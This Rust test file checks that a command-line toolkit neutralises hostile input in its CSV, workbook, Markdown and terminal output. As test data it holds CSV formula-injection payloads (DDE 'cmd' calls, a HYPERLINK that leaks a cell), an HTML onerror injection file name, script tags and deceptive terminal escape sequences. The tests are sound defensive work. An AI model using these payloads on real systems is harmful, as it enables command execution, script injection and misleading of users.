//! End-to-end tests that no output runs what a user wrote: CSV fields a spreadsheet would
//! take for formulas, Markdown that would break out into HTML, terminal escape sequences in
//! diagnostics, and error text that grows with the input.

mod common;

use std::path::{Path, PathBuf};

use common::{EXAMPLE, root, sct};

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().expect("temporary directory")
}

/// What an attacker puts in a spreadsheet cell: a formula, a DDE command, and the other
/// starts OWASP lists.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
];

/// Every field of a CSV document, header row included.
fn fields(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Whether a spreadsheet would read `field` as a formula: it begins with one of OWASP's
/// characters and is not simply a (negative) decimal number.
fn runs_as_formula(field: &str) -> bool {
    let number = field.parse::<f64>().is_ok()
        && field
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'-' || b == b'.');
    field.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// Asserts that no field of `csv_text` would run, and that each of `planted` begins a field
/// as text (with its `'`).
fn assert_neutralised(what: &str, csv_text: &str, planted: &[&str]) {
    let fields = fields(csv_text);
    for f in &fields {
        assert!(!runs_as_formula(f), "{what}: {f:?} would run as a formula");
    }
    for p in planted {
        assert!(
            fields.iter().any(|f| f.starts_with(&format!("'{p}"))),
            "{what}: {p:?} is not in the output as text:\n{csv_text}"
        );
    }
}

/// A copy of the example response whose evidence, rationale and n/a reason begin as
/// formulas.
fn formula_response(dir: &Path) -> PathBuf {
    let text = std::fs::read_to_string(root().join(EXAMPLE)).unwrap();
    let text = text
        .replacen(
            "evidence = [\"",
            &format!("evidence = [{:?}, {:?}, \"", FORMULAS[0], FORMULAS[4]),
            1,
        )
        .replacen(
            "rationale = \"",
            &format!("rationale = {:?} #\"", FORMULAS[1]),
            1,
        );
    let path = dir.join("formulas.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn stdout_of(args: &[&str]) -> String {
    let out = sct().args(args).output().unwrap();
    assert!(
        out.status.success(),
        "sct {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn csv_outputs_neutralise_formula_like_strings() {
    let dir = tmp();
    let d = dir.path();
    let response = formula_response(d);
    let response = response.to_str().unwrap();

    // The assessment report carries the evidence and rationale as written.
    let report = stdout_of(&["report", response, "--format", "csv"]);
    assert_neutralised("report", &report, &[FORMULAS[0], FORMULAS[1]]);
    for (what, args) in [
        ("score", vec!["score", response, "--format", "csv"]),
        ("plan", vec!["plan", response, "--format", "csv"]),
    ] {
        assert_neutralised(what, &stdout_of(&args), &[]);
    }

    // KPI data whose organisation code is a formula: review and IPR name it on every row.
    let org = FORMULAS[0];
    let data = d.join("kpis.csv");
    let kpis = std::fs::read_to_string(root().join("examples/kpi/bnssg-kpis.csv")).unwrap();
    let mut w = csv::Writer::from_path(&data).unwrap();
    for (i, line) in kpis.lines().enumerate() {
        let mut rec: Vec<String> = line.split(',').map(str::to_string).collect();
        if i > 0 && rec[0] == "QUY" {
            rec[0] = org.to_string();
        }
        w.write_record(&rec).unwrap();
    }
    w.flush().unwrap();
    drop(w);
    let data = data.to_str().unwrap();
    for (what, cmd) in [("review", "review"), ("ipr", "ipr")] {
        let args = [
            "kpi",
            cmd,
            "--set",
            "scf-three-timeframes",
            "--data",
            data,
            "--org",
            org,
            "--format",
            "csv",
        ];
        assert_neutralised(what, &stdout_of(&args), &[org]);
    }

    // A funnel whose organisations are formulas; its numbers stay numbers.
    let funnel = d.join("funnel.csv");
    let mut w = csv::Writer::from_path(&funnel).unwrap();
    w.write_record(["org", "numerator", "denominator"]).unwrap();
    for (i, f) in FORMULAS.iter().enumerate() {
        w.write_record([*f, &(10 + i).to_string(), "100"]).unwrap();
    }
    w.write_record(["-12", "5", "100"]).unwrap();
    w.flush().unwrap();
    drop(w);
    let out = stdout_of(&[
        "kpi",
        "funnel",
        funnel.to_str().unwrap(),
        "--type",
        "proportion",
        "--format",
        "csv",
    ]);
    // The reader trims blanks, so the tab and carriage return are gone (and the rest still
    // neutralised).
    assert_neutralised("funnel", &out, &FORMULAS[..4]);
    assert!(
        fields(&out).iter().any(|f| f == "-12"),
        "a number stays a number:\n{out}"
    );

    // SPC and run charts: numbers only, every negative one kept a number.
    let series = root().join("examples/kpi/ae-4-hour.csv");
    let series = series.to_str().unwrap();
    for chart in ["xmr", "run"] {
        let out = stdout_of(&[
            "kpi",
            "spc",
            series,
            "--improvement",
            "increase",
            "--chart",
            chart,
            "--format",
            "csv",
        ]);
        assert_neutralised(chart, &out, &[]);
    }
}

#[test]
fn comparison_and_plugin_csv_neutralise_formula_like_strings() {
    let dir = tmp();
    let d = dir.path();
    // The cohort example with a region that is a formula.
    let orgs = std::fs::read_to_string(root().join("examples/cohort/orgs.csv")).unwrap();
    let orgs = orgs.replace(",South West,", &format!(",\"{}\",", FORMULAS[3]));
    std::fs::write(d.join("orgs.csv"), orgs).unwrap();
    let out = stdout_of(&[
        "compare",
        root()
            .join("examples/cohort/baseline-2026-03")
            .to_str()
            .unwrap(),
        "--orgs",
        d.join("orgs.csv").to_str().unwrap(),
        "--group-by",
        "region",
        "--format",
        "csv",
    ]);
    assert_neutralised("compare", &out, &[FORMULAS[3]]);

    // A command plugin whose evidence and series are formulas.
    let plugin = d.join("plugins").join("evil");
    std::fs::create_dir_all(&plugin).unwrap();
    let evidence: Vec<String> = FORMULAS
        .iter()
        .map(|f| {
            format!("{{\"id\": {f:?}, \"title\": {f:?}, \"status\": \"present\", \"note\": {f:?}}}")
        })
        .collect();
    let script = format!(
        r#"import json, sys
verb = sys.argv[1]
if verb == "handshake":
    print(json.dumps({{"protocol": 1}}))
elif verb == "describe":
    print(json.dumps({{"protocol": 1, "ok": {{"name": "evil", "version": "1.0.0", "protocol": 1, "measures": [{{"id": "m", "title": "M"}}, {{"id": "s", "title": "S"}}]}}}}))
else:
    req = json.load(sys.stdin)
    if req["measure"] == "m":
        print(json.dumps({{"protocol": 1, "ok": {{"measure": "m", "evidence": [{}]}}}}))
    else:
        print(json.dumps({{"protocol": 1, "ok": {{"measure": "s", "series": [{{"period": {:?}, "value": -1.5}}]}}}}))
"#,
        evidence.join(", "),
        FORMULAS[2]
    );
    std::fs::write(plugin.join("plugin.py"), &script).unwrap();
    let sha = sha256_of(script.as_bytes());
    std::fs::write(
        plugin.join("plugin.toml"),
        format!(
            "name = \"evil\"\nversion = \"1.0.0\"\nkind = \"command\"\nfile = \"plugin.py\"\nsha256 = \"{sha}\"\nprotocol = 1\nmeasures = [\"m\", \"s\"]\ninterpreter = \"python3\"\n"
        ),
    )
    .unwrap();
    let plugin_dir = d.join("plugins");
    let plugin_dir = plugin_dir.to_str().unwrap();
    let out = stdout_of(&[
        "--plugin-dir",
        plugin_dir,
        "plugins",
        "run",
        "evil",
        "m",
        "--format",
        "csv",
    ]);
    assert_neutralised("plugin evidence", &out, &FORMULAS);
    let out = stdout_of(&[
        "--plugin-dir",
        plugin_dir,
        "plugins",
        "run",
        "evil",
        "s",
        "--format",
        "csv",
    ]);
    assert_neutralised("plugin series", &out, &[FORMULAS[2]]);
    assert!(fields(&out).iter().any(|f| f == "-1.5"), "{out}");
}

/// SHA-256 of `bytes` in lower-case hex, through the library the host uses.
fn sha256_of(bytes: &[u8]) -> String {
    sct_core::source::sha256_hex(bytes)
}

/// The text of every part of a workbook whose name starts with `prefix`.
fn workbook_parts(path: &Path, prefix: &str) -> Vec<(String, String)> {
    let file = std::fs::File::open(path).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let names: Vec<String> = zip.file_names().map(str::to_string).collect();
    names
        .into_iter()
        .filter(|n| n.starts_with(prefix))
        .map(|n| {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut zip.by_name(&n).unwrap(), &mut text).unwrap();
            (n, text)
        })
        .collect()
}

/// Workbooks were never at risk (every user string is written as a string cell, never a
/// formula); this keeps it so for every workbook sct writes.
#[test]
fn workbooks_write_formula_like_strings_as_text_never_as_formulas() {
    let dir = tmp();
    let d = dir.path();
    let response = formula_response(d);
    let mut books = Vec::new();
    // Each workbook, and whether it carries the planted text (score and plan hold no free
    // text, but are checked for formulas all the same).
    for (name, args) in [
        ("response.xlsx", vec!["convert"]),
        ("score.xlsx", vec!["score"]),
        ("plan.xlsx", vec!["plan"]),
    ] {
        let out = d.join(name);
        sct()
            .args(&args)
            .arg(&response)
            .arg("-o")
            .arg(&out)
            .assert()
            .success();
        books.push((out, name == "response.xlsx"));
    }
    let orgs = std::fs::read_to_string(root().join("examples/cohort/orgs.csv")).unwrap();
    let orgs = orgs.replace(",South West,", &format!(",\"{}\",", FORMULAS[1]));
    std::fs::write(d.join("orgs.csv"), orgs).unwrap();
    let out = d.join("compare.xlsx");
    sct()
        .arg("compare")
        .arg(root().join("examples/cohort/baseline-2026-03"))
        .arg("--orgs")
        .arg(d.join("orgs.csv"))
        .args(["--group-by", "region", "-o"])
        .arg(&out)
        .assert()
        .success();
    books.push((out, true));
    for (book, planted) in &books {
        for (part, xml) in workbook_parts(book, "xl/worksheets/") {
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{}: {part} holds a formula",
                book.display()
            );
        }
        let strings: String = workbook_parts(book, "xl/sharedStrings")
            .into_iter()
            .map(|(_, t)| t)
            .collect();
        assert!(
            !planted
                || strings.contains("cmd|' /C calc'!A0")
                || strings.contains("cmd|&apos; /C calc&apos;!A0"),
            "{}: the formula-like text is not kept as a string",
            book.display()
        );
    }
}

/// A file name that tries to close a code span and a table cell and inject HTML.
const HOSTILE_NAME: &str = "r`<img src=x onerror=alert(1)>`|x";

/// `md` with every code span taken out, as CommonMark reads them: a run of n backticks
/// opens one, the next run of exactly n closes it (an unclosed run is literal text).
fn outside_code_spans(md: &str) -> String {
    let chars: Vec<char> = md.chars().collect();
    let run_at = |i: usize| chars[i..].iter().take_while(|&&c| c == '`').count();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] == '\\' && i + 1 < chars.len() {
            out.push(chars[i]);
            out.push(chars[i + 1]);
            i += 2;
            continue;
        }
        if chars[i] != '`' {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let n = run_at(i);
        let mut j = i + n;
        let close = loop {
            if j >= chars.len() {
                break None;
            }
            if chars[j] == '`' {
                let m = run_at(j);
                if m == n {
                    break Some(j + m);
                }
                j += m;
            } else {
                j += 1;
            }
        };
        match close {
            Some(end) => {
                out.push_str("<code/>");
                i = end;
            }
            None => {
                out.extend(&chars[i..i + n]);
                i += n;
            }
        }
    }
    out
}

/// Asserts that nothing in `md` is HTML a user wrote: no `<img` or `<script` outside code
/// spans, and every table row has as many cells as its table's header.
fn assert_no_user_html(what: &str, md: &str) {
    let text = outside_code_spans(md);
    for bad in ["<img", "<script", "<b>"] {
        assert!(
            !text.contains(bad),
            "{what}: {bad} outside a code span:\n{md}"
        );
    }
    let mut cells = None;
    for line in text.lines() {
        if !line.starts_with('|') {
            cells = None;
            continue;
        }
        let n = line
            .replace("\\\\", "")
            .replace("\\|", "")
            .matches('|')
            .count();
        match cells {
            None => cells = Some(n),
            Some(c) => assert_eq!(c, n, "{what}: a table row with its own cells: {line}"),
        }
    }
}

#[test]
fn markdown_outputs_escape_user_strings_for_their_context() {
    let dir = tmp();
    let d = dir.path();
    let response = d.join(format!("{HOSTILE_NAME}.toml"));
    std::fs::copy(root().join(EXAMPLE), &response).unwrap();
    let orgs = d.join(format!("{HOSTILE_NAME}.csv"));
    std::fs::copy(root().join("data/organisations/icbs.csv"), &orgs).unwrap();
    let md = {
        let out = sct()
            .arg("report")
            .arg(&response)
            .arg("--organisations")
            .arg(&orgs)
            .args(["--format", "md"])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    assert_no_user_html("report.md", &md);
    // The file names are in code spans that show them as they are.
    assert!(md.contains(&format!("{HOSTILE_NAME}.toml``")), "{md}");
    assert!(md.contains(&format!("{HOSTILE_NAME}.csv``")), "{md}");

    let out = sct()
        .arg("plan")
        .arg(&response)
        .args(["--format", "md"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_no_user_html("plan.md", &String::from_utf8(out.stdout).unwrap());

    // KPI data, with a rebase log whose reason and approver hold HTML and pipes.
    let data = d.join(format!("{HOSTILE_NAME}.csv.kpis"));
    std::fs::copy(root().join("examples/kpi/bnssg-kpis.csv"), &data).unwrap();
    let log = d.join("log.csv");
    std::fs::write(
        &log,
        "indicator,organisation,date,reason,approved_by,approved_on\ncat2-mean-response,QUY,2024-04,\"<img src=x> | `x\",\"<script>x</script>\",2024-05-14\n",
    )
    .unwrap();
    for cmd in ["review", "ipr"] {
        let out = sct()
            .args(["kpi", cmd, "--set", "scf-three-timeframes", "--data"])
            .arg(&data)
            .arg("--rebase-log")
            .arg(&log)
            .args(["--org", "QUY", "--format", "md"])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_no_user_html(cmd, &String::from_utf8(out.stdout).unwrap());
    }

    // A cohort whose region holds HTML and a pipe.
    let orgs = std::fs::read_to_string(root().join("examples/cohort/orgs.csv")).unwrap();
    let orgs = orgs.replace(",South West,", ",\"<img src=x>|`y\",");
    std::fs::write(d.join("orgs.csv"), orgs).unwrap();
    let out = sct()
        .arg("compare")
        .arg(root().join("examples/cohort/baseline-2026-03"))
        .arg("--orgs")
        .arg(d.join("orgs.csv"))
        .args(["--group-by", "region", "--format", "md"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_no_user_html("compare.md", &String::from_utf8(out.stdout).unwrap());
}

/// Terminal control sequences an attacker would put in a file: clear the screen, set the
/// window title, ring the bell, return to the line's start to print a fake "ok", and the
/// single-byte CSI and a right-to-left override.
const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\rok \u{9b}31m\u{202e}";

/// The characters that act on a terminal, found in `text` (sct's own colour codes aside).
fn terminal_controls(text: &str) -> Vec<char> {
    let mut text = text.to_string();
    for own in [
        "\u{1b}[0m",
        "\u{1b}[1m",
        "\u{1b}[1;31m",
        "\u{1b}[1;33m",
        "\u{1b}[1;34m",
    ] {
        text = text.replace(own, "");
    }
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

fn run_with(args: &[&std::ffi::OsStr], color: &str) -> (String, String) {
    let out = sct().arg("--color").arg(color).args(args).output().unwrap();
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn diagnostics_never_echo_terminal_escape_sequences() {
    let dir = tmp();
    let d = dir.path();
    let example = std::fs::read_to_string(root().join(EXAMPLE)).unwrap();
    let toml_escapes: String = ESCAPES
        .chars()
        .map(|c| format!("\\u{:04X}", u32::from(c)))
        .collect();
    // An unknown capability and an unknown level, each quoted in its error, the level after a
    // tab (kept, so the caret lines up under it).
    let bad = example
        .replacen(
            "level = \"embedding\"",
            &format!("level =\t\"{toml_escapes}\""),
            1,
        )
        .replacen(
            "[capabilities.integrated-needs-assessment]",
            &format!("[capabilities.\"x{toml_escapes}\"]\nlevel = \"embedding\"\n[capabilities.integrated-needs-assessment]"),
            1,
        );
    // The file's name holds escapes too: it is quoted in every location.
    let name = format!("r{ESCAPES}.toml");
    let response = d.join(&name);
    std::fs::write(&response, &bad).unwrap();
    // A CSV whose value is an escape sequence, and a warning-only response for stdout.
    let series = d.join(format!("s{ESCAPES}.csv"));
    std::fs::write(
        &series,
        format!("date,value\n2024-01,1\n2024-02,{ESCAPES}\n"),
    )
    .unwrap();
    let fine = d.join(format!("fine{ESCAPES}.toml"));
    std::fs::copy(root().join(EXAMPLE), &fine).unwrap();
    let out = d.join(format!("out{ESCAPES}.csv"));
    let cases: Vec<Vec<&std::ffi::OsStr>> = vec![
        vec!["validate".as_ref(), response.as_os_str()],
        vec!["report".as_ref(), response.as_os_str()],
        vec![
            "kpi".as_ref(),
            "spc".as_ref(),
            series.as_os_str(),
            "--improvement".as_ref(),
            "increase".as_ref(),
        ],
        vec!["validate".as_ref(), fine.as_os_str()],
        vec![
            "score".as_ref(),
            fine.as_os_str(),
            "--format".as_ref(),
            "csv".as_ref(),
            "-o".as_ref(),
            out.as_os_str(),
        ],
    ];
    for args in &cases {
        for color in ["never", "always"] {
            let (stdout, stderr) = run_with(args, color);
            assert!(!stderr.is_empty() || stdout.contains("valid"), "{args:?}");
            assert_eq!(terminal_controls(&stderr), [], "{args:?} stderr:\n{stderr}");
            if args[0] == "validate" {
                assert_eq!(terminal_controls(&stdout), [], "{args:?} stdout:\n{stdout}");
            }
            // Shown as escapes, so the reader sees what the file holds.
            assert!(
                stderr.contains("\\u{1b}]0;pwned\\u{7}\\u{d}ok")
                    || stdout.contains("\\u{1b}]0;pwned"),
                "{args:?}:\n{stderr}{stdout}"
            );
        }
    }
    let (_, stderr) = run_with(&cases[0], "never");
    assert!(stderr.contains("level =\t\""), "the tab is kept:\n{stderr}");
}

/// The text of a response with `n` capabilities the toolkit does not have, each on its own
/// lines or all on one line.
fn unknown_capabilities(n: usize, one_line: bool) -> String {
    let example = std::fs::read_to_string(root().join(EXAMPLE)).unwrap();
    let head = example.split("[capabilities.").next().unwrap();
    if one_line {
        let at = head.find("[organisation]").unwrap();
        let entries: Vec<String> = (0..n)
            .map(|i| format!("zz-unknown-{i} = {{ level = \"embedding\" }}"))
            .collect();
        format!(
            "{}capabilities = {{ {} }}\n{}",
            &head[..at],
            entries.join(", "),
            &head[at..]
        )
    } else {
        let mut text = head.to_string();
        for i in 0..n {
            text.push_str(&format!(
                "[capabilities.zz-unknown-{i}]\nlevel = \"embedding\"\n"
            ));
        }
        text
    }
}

#[test]
fn diagnostics_quote_bounded_excerpts_and_stop_after_fifty() {
    let dir = tmp();
    let d = dir.path();
    // One field of 2 MB: quoted as its start and end, with the count left out.
    let big = d.join("big.csv");
    std::fs::write(
        &big,
        format!(
            "date,value\n2024-01,1\n2024-02,{}\n",
            "9x".repeat(1_000_000)
        ),
    )
    .unwrap();
    let out = sct()
        .args(["kpi", "spc"])
        .arg(&big)
        .args(["--improvement", "increase"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.len() < 2_000, "{} bytes of error text", err.len());
    assert!(err.contains("more characters) …"), "{err}");
    assert!(err.contains("big.csv:3:1"), "{err}");

    // 2,000 unknown capabilities, one per table and all on one line: 50 errors are shown,
    // the rest counted, and every quoted line is an excerpt.
    for one_line in [false, true] {
        let file = d.join(format!("unknown-{one_line}.toml"));
        std::fs::write(&file, unknown_capabilities(2_000, one_line)).unwrap();
        let out = sct().arg("validate").arg(&file).output().unwrap();
        assert_eq!(out.status.code(), Some(2));
        let err = String::from_utf8(out.stderr).unwrap();
        assert_eq!(err.matches("error: ").count(), 50, "one_line {one_line}");
        assert!(
            err.ends_with("note: 1950 more errors not shown (at most 50 of each are)\n"),
            "{}",
            &err[err.len().saturating_sub(300)..]
        );
        assert!(
            err.lines().all(|l| l.chars().count() < 400),
            "one_line {one_line}"
        );
        assert!(err.len() < 50 * 800, "{} bytes", err.len());
        // The machine-readable form still lists every one.
        let out = sct()
            .arg("validate")
            .arg(&file)
            .args(["--format", "json"])
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let errors = json["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|d| d["severity"] == "error")
            .count();
        assert_eq!(errors, 2_000);
    }
}
